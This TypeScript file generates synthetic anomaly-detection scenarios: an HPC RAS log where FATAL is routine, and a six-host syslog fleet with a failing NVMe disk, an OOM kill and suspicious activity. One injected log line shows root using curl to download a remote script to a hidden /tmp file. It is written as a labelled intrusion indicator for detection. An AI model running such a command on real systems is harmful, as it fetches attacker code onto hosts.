// System logs: an HPC RAS event log where CRITICAL is routine, and a syslog fleet with a failing disk.

import { poissonTimes, scatteredTimes, type Rng } from "./random.js";
import { windowOf, type Window } from "./scen-util.js";
import { MIN } from "./time.js";
import { finalize } from "./traffic.js";
import type { AnomalyType, Ev, Level, ProducerName, Scenario } from "./types.js";

export function mk(prod: ProducerName, svc: string, t: number, level: Level, msg: string, label: AnomalyType | null = null, inst?: string, raw?: string): Ev {
  const e: Ev = { t: Math.floor(t), svc, level, msg, label, prod };
  if (inst) e.inst = inst;
  if (raw) e.rawLevel = raw;
  return e;
}

export function bglLocation(r: Rng, rack = r.int(0, 63), mid = r.int(0, 1)): string {
  const hx = "0123456789ABCDEF";
  return `R${String(rack).padStart(2, "0")}-M${mid}-N${hx[r.int(0, 15)]}-C:J${String(r.int(2, 17)).padStart(2, "0")}-U${r.pick(["01", "11"])}`;
}

type RasTpl = [string, Level, string | undefined, (r: Rng) => string, number];
/** component, level, raw severity, message, weight. KERNEL writes FATAL on ~15 % of its lines every day. */
export const RAS_NORMAL: RasTpl[] = [
  ["KERNEL", "INFO", undefined, () => "instruction cache parity error corrected", 30],
  ["KERNEL", "INFO", undefined, (r) => `${r.int(1, 9)} ddr error(s) detected and corrected on rank 0, symbol ${r.int(0, 35)}, bit ${r.int(0, 7)}`, 12],
  ["KERNEL", "INFO", undefined, (r) => `CE sym ${r.int(0, 35)}, at 0x${r.hex(8)}, mask 0x${r.hex(2)}`, 10],
  ["KERNEL", "INFO", undefined, (r) => `generating core.${r.int(100, 9999)}`, 8],
  ["KERNEL", "INFO", undefined, (r) => `${r.int(1, 99)} double-hummer alignment exceptions`, 4],
  ["KERNEL", "CRITICAL", "FATAL", () => "data TLB error interrupt", 6],
  ["KERNEL", "CRITICAL", "FATAL", () => "data storage interrupt", 3],
  ["KERNEL", "CRITICAL", "FATAL", (r) => `instruction address: 0x${r.hex(8)}`, 2.5],
  ["KERNEL", "CRITICAL", "FATAL", () => "program interrupt: fp cr field .............0", 1.5],
  ["MMCS", "INFO", undefined, (r) => `idoproxy communication with block RMP${r.int(10, 28)}Se${r.int(100000, 999999)} established`, 6],
  ["MMCS", "INFO", undefined, (r) => `ciodb: job ${r.int(100000, 199999)} started on block R${String(r.int(0, 63)).padStart(2, "0")}-M${r.int(0, 1)}`, 6],
  ["MMCS", "INFO", undefined, (r) => `ciodb: job ${r.int(100000, 199999)} ended, exit status 0`, 6],
  ["APP", "ERROR", "SEVERE", (r) => `ciod: LOGIN chdir(/p/gb2/user${r.int(1, 40)}/run${r.int(1, 9)}) failed: No such file or directory`, 2],
  [
    "DISCOVERY",
    "WARNING",
    undefined,
    (r) => `Node card VPD check: U${r.pick(["01", "11"])} node in processor card slot J${r.int(2, 17)} do not match. VPD ecid 0x${r.hex(16)}`,
    2,
  ],
  ["MONITOR", "WARNING", undefined, (r) => `node card temperature ${r.int(62, 67)}C above warning threshold 60C (fan speed 4200rpm)`, 1.5],
  ["LINKCARD", "INFO", undefined, () => "MidplaneSwitchController performing bit sparing on link 2, bit 17", 0.5],
];

function rasNormal(r: Rng, w: Window, perMin: number): Ev[] {
  const out: Ev[] = [];
  const items = RAS_NORMAL.map((x) => [x, x[4]] as const);
  for (const t of poissonTimes(r, w.start, w.end, perMin)) {
    const [comp, level, raw, gen] = r.weighted(items);
    out.push(mk("ras", comp, t, level, gen(r), null, bglLocation(r), raw));
  }
  return out;
}

export function hpcRasNewFatal(r: Rng): Scenario {
  const w = windowOf(r, r.int(180, 240));
  const evs = rasNormal(r, w, r.float(20, 27));
  // the real alert: a link failure on one midplane makes ciod lose its control streams - a FATAL kind never seen otherwise
  const rack = r.int(0, 63);
  const first = w.start + r.float(0.15, 0.6) * (w.end - w.start);
  for (const t of scatteredTimes(r, first, Math.min(w.end - MIN, first + r.float(40, 80) * MIN), r.int(28, 40))) {
    const port = r.int(32000, 34999);
    evs.push(
      mk(
        "ras",
        "APP",
        t,
        "CRITICAL",
        `ciod: Error reading message prefix after LOAD_MESSAGE on CioStream socket to 172.16.96.${r.int(2, 250)}:${port}: Link has been severed`,
        "error",
        bglLocation(r, rack, 1),
        "FATAL",
      ),
    );
  }
  for (const t of scatteredTimes(r, first - 2 * MIN, first + 30 * MIN, r.int(6, 9)))
    evs.push(
      mk(
        "ras",
        "LINKCARD",
        t,
        "CRITICAL",
        `MidplaneSwitchController: link ${r.int(0, 5)} on R${String(rack).padStart(2, "0")}-M1 failed CRC threshold, port disabled`,
        "error",
        `R${String(rack).padStart(2, "0")}-M1-L${r.int(0, 3)}`,
        "FATAL",
      ),
    );
  return finalize(
    r,
    "hpc-ras-routine-critical-new-fatal",
    "BlueGene-style RAS log where KERNEL writes FATAL on ~15% of its lines every day; the incident is a never-seen FATAL kind (ciod link severed, link CRC failures) on one midplane.",
    evs,
  );
}

const SSH_SCANNERS = ["45.148.10.", "193.32.162.", "218.92.0.", "141.98.11."];

export function syslogFleet(r: Rng): Scenario {
  const w = windowOf(r, r.int(120, 180));
  const web = ["web-01", "web-02", "web-03", "web-04"];
  const all = [...web, "db-01", "db-02"];
  const evs: Ev[] = [];
  const s = (app: string, t: number, level: Level, msg: string, host: string, label: AnomalyType | null = null, raw?: string): void => {
    const e = mk("syslog", app, t, level, msg, label, host, raw);
    e.logger = app === "kernel" ? "kern" : app === "sshd" || app === "sudo" ? "authpriv" : app === "CRON" ? "cron" : "daemon";
    evs.push(e);
  };
  for (const h of all) {
    for (let t = w.start + r.int(0, 599_999); t < w.end; t += 10 * MIN) s("CRON", t, "INFO", "(root) CMD (/usr/lib64/sa/sa1 1 1)", h);
    for (const t of poissonTimes(r, w.start, w.end, 0.6)) {
      const ip = `${r.pick(SSH_SCANNERS)}${r.int(2, 250)}`;
      const user = r.pick(["admin", "test", "oracle", "ubuntu", "git", "postgres", "user1"]);
      s("sshd", t, "INFO", `Invalid user ${user} from ${ip} port ${r.int(30000, 65000)}`, h);
      s("sshd", t + r.int(200, 900), "INFO", `Connection closed by invalid user ${user} ${ip} port ${r.int(30000, 65000)} [preauth]`, h);
    }
    for (const t of poissonTimes(r, w.start, w.end, 0.5))
      s(
        "kernel",
        t,
        "WARNING",
        `[UFW BLOCK] IN=eth0 OUT= MAC=0a:1b:2c:3d:4e:5f SRC=${r.pick(SSH_SCANNERS)}${r.int(2, 250)} DST=10.0.1.${r.int(10, 40)} LEN=44 TOS=0x00 PROTO=TCP SPT=${r.int(30000, 65000)} DPT=${r.pick([23, 3389, 5900, 6379, 8088])} WINDOW=1024 SYN`,
        h,
      );
    for (const t of poissonTimes(r, w.start, w.end, 0.12)) {
      const sess = r.int(1000, 9999);
      s(
        "sshd",
        t,
        "INFO",
        `Accepted publickey for deploy from 10.0.1.5 port ${r.int(40000, 60000)} ssh2: ED25519 SHA256:${r.alnum(43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")}`,
        h,
      );
      s("systemd", t + 80, "INFO", `Started Session ${sess} of User deploy.`, h);
      s("sshd", t + r.int(20_000, 300_000), "INFO", `pam_unix(sshd:session): session closed for user deploy`, h);
    }
    for (let t = w.start + r.int(0, 1_023_000); t < w.end; t += 1_024_000)
      s("chronyd", t, "INFO", `Selected source 169.254.169.123 (offset ${(r.normal() * 0.0004).toFixed(6)}s)`, h, null, "5");
  }
  for (const h of web) {
    for (const t of poissonTimes(r, w.start, w.end, 2.2))
      s(
        "dockerd",
        t,
        "INFO",
        `time="${new Date(t).toISOString()}" level=info msg="ignoring event" container=${r.hex(64)} module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"`,
        h,
      );
    for (const t of poissonTimes(r, w.start, w.end, 1.4))
      s(
        "kubelet",
        t,
        "INFO",
        `I${new Date(t).toISOString().slice(5, 10).replace("-", "")} ${new Date(t).toISOString().slice(11, 23)}    1234 kubelet_getters.go:218] "Pod status updated" pod="shop/web-${r.alnum(5, "bcdfghjklmnpqrstvwxz2456789")}" status="Running"`,
        h,
      );
  }
  for (const h of ["db-01", "db-02"]) {
    for (const t of poissonTimes(r, w.start, w.end, 3))
      s(
        "postgres",
        t,
        "INFO",
        `[${r.int(2000, 9000)}] LOG:  duration: ${(r.logNormal(4, 0.8)).toFixed(3)} ms  statement: SELECT ... FROM orders WHERE customer_id = $1`,
        h,
      );
    for (let t = w.start + r.int(0, 299_999); t < w.end; t += 5 * MIN)
      s(
        "postgres",
        t,
        "INFO",
        `[${r.int(100, 200)}] LOG:  checkpoint complete: wrote ${r.int(200, 3000)} buffers (${r.float(0.5, 4).toFixed(1)}%); 0 WAL file(s) added, 0 removed, ${r.int(1, 4)} recycled`,
        h,
      );
    for (const t of poissonTimes(r, w.start, w.end, 0.15))
      s("postgres", t, "ERROR", `[${r.int(2000, 9000)}] ERROR:  duplicate key value violates unique constraint "carts_session_id_key"`, h);
  }
  s("systemd", w.start + r.float(0.2, 0.8) * (w.end - w.start), "INFO", "Starting Daily apt upgrade and clean activities...", "web-02");
  s("systemd", w.start + r.float(0.2, 0.8) * (w.end - w.start), "INFO", "logrotate.service: Deactivated successfully.", "db-02");
  // incident: db-01's NVMe fails -> hung tasks, I/O errors, read-only fs, postgres PANIC; web-03 OOM kill; odd root logins
  const d0 = w.start + r.float(0.25, 0.55) * (w.end - w.start);
  s("kernel", d0, "ERROR", `nvme nvme1: I/O ${r.int(100, 999)} QID ${r.int(1, 8)} timeout, aborting`, "db-01", "performance");
  for (const t of scatteredTimes(r, d0 + 5_000, d0 + 4 * MIN, r.int(5, 8)))
    s(
      "kernel",
      t,
      "ERROR",
      `blk_update_request: I/O error, dev nvme1n1, sector ${r.int(1e6, 9e8)} op 0x1:(WRITE) flags 0x800 phys_seg ${r.int(1, 32)} prio class 0`,
      "db-01",
      "error",
    );
  for (const t of scatteredTimes(r, d0 + MIN, d0 + 6 * MIN, r.int(3, 5)))
    s("kernel", t, "ERROR", `INFO: task postgres:${r.int(2000, 9000)} blocked for more than 120 seconds.`, "db-01", "performance");
  const ro = d0 + 4 * MIN + r.float(0, 60_000);
  s("kernel", ro, "CRITICAL", "EXT4-fs error (device nvme1n1p1): ext4_journal_check_start:83: Detected aborted journal", "db-01", "error");
  s("kernel", ro + 40, "CRITICAL", "EXT4-fs (nvme1n1p1): Remounting filesystem read-only", "db-01", "error");
  for (const t of scatteredTimes(r, ro + 1_000, Math.min(w.end - 1_000, ro + 8 * MIN), r.int(10, 16)))
    s(
      "postgres",
      t,
      r.chance(0.3) ? "CRITICAL" : "ERROR",
      r.chance(0.3)
        ? `[${r.int(2000, 9000)}] PANIC:  could not write to file "pg_wal/xlogtemp.${r.int(2000, 9000)}": Read-only file system`
        : `[${r.int(2000, 9000)}] ERROR:  could not extend file "base/16384/${r.int(16000, 99999)}": Read-only file system`,
      "db-01",
      "error",
    );
  const oom = w.start + r.float(0.1, 0.9) * (w.end - w.start);
  s("kernel", oom, "WARNING", "java invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=936", "web-03", "memory");
  s(
    "kernel",
    oom + 30,
    "ERROR",
    `Out of memory: Killed process ${r.int(3000, 9999)} (java) total-vm:8123456kB, anon-rss:3923456kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:8624kB oom_score_adj:936`,
    "web-03",
    "memory",
  );
  for (const t of scatteredTimes(r, w.start + 5 * MIN, w.end - 2 * MIN, r.int(4, 6))) {
    const h = r.pick(web);
    s("sshd", t, "INFO", `Accepted password for root from 185.220.101.${r.int(2, 250)} port ${r.int(30000, 65000)} ssh2`, h, "pattern");
    s(
      "sudo",
      t + r.int(5_000, 60_000),
      "INFO",
      `root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://198.51.100.77/x.sh -o /tmp/.x`,
      h,
      "pattern",
    );
  }
  return finalize(
    r,
    "syslog-fleet-nvme-failure",
    "Syslog from six hosts with routine ssh-scanner and firewall noise; db-01's NVMe fails (timeouts, I/O errors, read-only fs, postgres PANIC), web-03 has an OOM kill, and odd root password logins appear.",
    evs,
  );
}
